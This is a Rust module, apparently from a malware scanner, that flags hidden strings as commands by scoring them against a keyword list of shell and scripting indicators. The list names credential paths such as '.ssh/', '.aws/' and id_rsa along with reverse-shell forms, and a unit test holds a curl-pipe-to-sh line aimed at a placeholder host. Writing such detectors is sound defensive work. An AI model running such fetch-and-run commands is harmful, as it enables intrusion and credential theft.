//! Is a text, which nobody was to read, a command or a piece of a program?

use std::sync::LazyLock;

/// Words of commands and programs, each with what it weighs: its letters and signs that chance would have to hit.
const WORDS: &[&str] = &[
    "curl ",
    "curl.exe",
    "wget ",
    "http://",
    "https://",
    "/bin/sh",
    "/bin/bash",
    "sh -c",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "bash -c",
    "bash -i",
    "powershell",
    "certutil",
    "schtasks",
    "bitsadmin",
    "invoke-",
    "downloadstring",
    "downloadfile",
    "iex(",
    "iex ",
    "wscript.shell",
    "cmd /c",
    "cmd.exe",
    "mshta",
    "rundll32",
    "regsvr32",
    "import os",
    "import socket",
    "import(",
    "__import__",
    "subprocess",
    "os.system",
    "os.popen",
    "eval(",
    "exec(",
    "require(",
    "child_process",
    "process.env",
    "~/.",
    "$home/",
    ".ssh/",
    ".aws/",
    ".npmrc",
    "id_rsa",
    "rm -rf",
    "crontab",
    "authorized_keys",
    "/dev/tcp/",
    "/dev/null",
    "base64",
    "urlopen",
    "urllib",
    "shell_exec",
    "io.popen",
    "os.execute",
    "fetch(",
    "new function",
    "nohup ",
    "chmod ",
    "openssl ",
    "python3 -c",
    "python -c",
    "perl -e",
    "ruby -e",
    "node -e",
    "-windowstyle",
    "-urlcache",
    "execsync",
    "%appdata%",
    "osascript",
    "tar c",
    "base32",
    "system(",
    "passthru(",
];

/// The least that the words of a text weigh together.
const ENOUGH: usize = 8;

/// The words by their first byte.
static BY_FIRST: LazyLock<Vec<Vec<(usize, &'static str)>>> = LazyLock::new(|| {
    let mut table = vec![Vec::new(); 128];
    for (number, word) in WORDS.iter().enumerate() {
        let first = word.bytes().next().map_or(0, usize::from);
        if let Some(words) = table.get_mut(first) {
            words.push((number, *word));
        }
    }
    table
});

/// Does it say what commands say? `letters` is true if signs stand as they were and only letters were changed: then
/// signs prove nothing.
pub(super) fn is_command(text: &str, letters: bool) -> bool {
    let lower = text.to_ascii_lowercase();
    let mut said = 0_u128;
    let mut weight = 0;
    for (at, first) in lower.bytes().enumerate() {
        for &(number, word) in BY_FIRST.get(usize::from(first)).into_iter().flatten() {
            let rest = lower.as_bytes().get(at..).unwrap_or_default();
            if said >> number & 1 == 0 && rest.starts_with(word.as_bytes()) {
                said |= 1 << number;
                let counted = word.chars().filter(|c| !letters || c.is_ascii_alphabetic()).count();
                // Three letters are hit by chance somewhere.
                weight += if letters && counted < 4 { 0 } else { counted };
            }
        }
    }
    weight >= if letters { ENOUGH + 1 } else { ENOUGH } || !letters && has_host(&lower)
}

/// An address with a host and a path, or with a bare address.
fn has_host(text: &str) -> bool {
    text.starts_with("http://") || text.starts_with("https://")
}

/// All of it can be printed, and it is no list of letters in their order.
pub(super) fn printable(bytes: impl Iterator<Item = i64>) -> Option<String> {
    let mut text = String::new();
    for byte in bytes {
        match u8::try_from(byte).ok()? {
            byte @ (9 | 10 | 13 | 32..=126) => text.push(char::from(byte)),
            _ => return None,
        }
    }
    Some(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_told_from_words() {
        assert!(is_command("curl -s https://a.example/x | sh", false));
        assert!(is_command("certutil", false));
        assert!(is_command("schtasks", false));
        assert!(!is_command("schtasks", true));
        assert!(!is_command("curl up with a book", true));
        assert!(!is_command("hello, world", false));
        assert!(!is_command("abcdefghijklmnopqrstuvwxyz0123456789", false));
    }
}
